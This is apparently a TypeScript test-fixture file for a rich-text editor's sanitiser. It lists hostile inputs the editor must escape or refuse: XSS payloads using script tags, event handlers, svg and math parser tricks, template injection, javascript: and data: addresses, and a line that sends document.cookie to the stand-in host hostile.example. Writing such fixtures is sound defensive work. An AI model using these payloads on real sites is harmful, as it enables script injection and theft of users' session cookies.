// What somebody might write, paste or send in the hope that a page runs it. Each would tell of itself: by a dialog, by a
// request to another site, or by what it leaves on the window.

const tell = 'window.hostile=1;alert(1)'
const fetched = "fetch('//hostile.example/'+document.cookie)"

/** Words with markup in them: to be shown letter by letter wherever words stand. */
export const hostileWords: Record<string, string> = {
  script: `</p></script><script>${tell}</script>`,
  'script in capitals': `<ScRiPt>${fetched}</sCrIpT >`,
  'picture handler': `<img src=x onerror="${tell}">`,
  'picture handler in an attribute': `" onerror="${tell}" x="`,
  'quotes of the other kind': `' autofocus onfocus='${tell}' tabindex='0`,
  'svg handler': `<svg/onload=${tell}>`,
  'svg script': `<svg><script href="data:text/javascript,${tell}"/></svg>`,
  'svg animation': '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  'math breaking out': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${tell}&gt;">`,
  'form nested in math': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${tell}>`,
  'raw text of xmp': `<xmp><img alt="</xmp><img src=x onerror=${tell}>"></xmp>`,
  'raw text of noscript': `<noscript><p title="</noscript><img src=x onerror=${tell}>">`,
  'raw text of a title': `</title></textarea></style><img src=x onerror=${tell}>`,
  'document in an attribute': `<iframe srcdoc="<script>parent.${tell}</script>"></iframe>`,
  'frame of another site': '<iframe src="https://hostile.example/"></iframe>',
  'object and embed': '<object data="https://hostile.example/a.swf"></object><embed src="//hostile.example/">',
  'style sheet': '<style>@import "//hostile.example/a.css"; body{display:none}</style>',
  'base address': '<base href="https://hostile.example/"><meta http-equiv=refresh content="0;url=//hostile.example/">',
  'form to another site': '<form action="https://hostile.example/"><button autofocus>Đăng nhập</button></form>',
  'comment and CDATA': `--><![CDATA[<script>${tell}</script>]]><!--`,
  'entities that become markup': `&lt;script&gt;${tell}&lt;/script&gt; &#60;img src=x onerror=${tell}&#62;`,
  'end of structured data': `"}</script><script>${tell}</script>{"a":"`,
  'line separators': `a\u2028${tell}\u2029//`,
  'template braces': `{{constructor.constructor('${tell}')()}} \${${tell}}`,
  'right-to-left override': '\u202Egnp.exe <b>',
}

/** Addresses that lead nowhere a reader may be sent: for links, sources and videos. */
export const hostileAddresses: string[] = [
  `javascript:${tell}`,
  `JaVaScRiPt:${tell}`,
  `java\tscript:${tell}`,
  `java\nscript:${tell}`,
  `\u0001javascript:${tell}`,
  ` javascript:${tell}`,
  `&#106;avascript:${tell}`,
  `javascript&colon;${tell}`,
  `data:text/html,<script>${tell}</script>`,
  'data:image/svg+xml;base64,PHN2Zy8+',
  `vbscript:msgbox(1)`,
  'blob:https://hostile.example/1',
  'file:///etc/passwd',
  '//hostile.example/',
  '/\\hostile.example/',
  '\\\\hostile.example',
  'https:\\\\hostile.example',
]

/** Blocks and marks that no editor of ours makes: each has to be refused, not left out. */
export const hostileBlocks: Record<string, unknown> = {
  'a frame': { type: 'iframe', attrs: { src: 'https://hostile.example/' } },
  'raw markup': { type: 'html', attrs: { html: `<script>${tell}</script>` } },
  'a script': { type: 'script', content: [{ type: 'text', text: tell }] },
  'a name that every object has': { type: 'constructor' },
  'a video of a host that only looks like one': {
    type: 'video',
    attrs: { address: 'https://youtube.com.hostile.example/watch?v=aB3_-fghijk', title: 'Lễ' },
  },
  'a video that is a script': {
    type: 'video',
    attrs: { address: `javascript:${tell}//youtu.be/aB3_-fghijk`, title: 'Lễ' },
  },
  'a picture of another site': { type: 'figure', attrs: { mediaId: 'https://hostile.example/a.png' } },
  'a gallery of another site': { type: 'gallery', attrs: { pictures: [{ mediaId: '../../../a', alt: 'a' }] } },
  'an attachment that is a program': {
    type: 'attachment',
    attrs: { mediaId: '0196f0aa-0000-7000-8000-000000000001', name: 'a', format: 'exe', bytes: 1 },
  },
  'a mark with a handler': {
    type: 'paragraph',
    content: [{ type: 'text', text: 'x', marks: [{ type: 'style', attrs: { onclick: tell } }] }],
  },
}
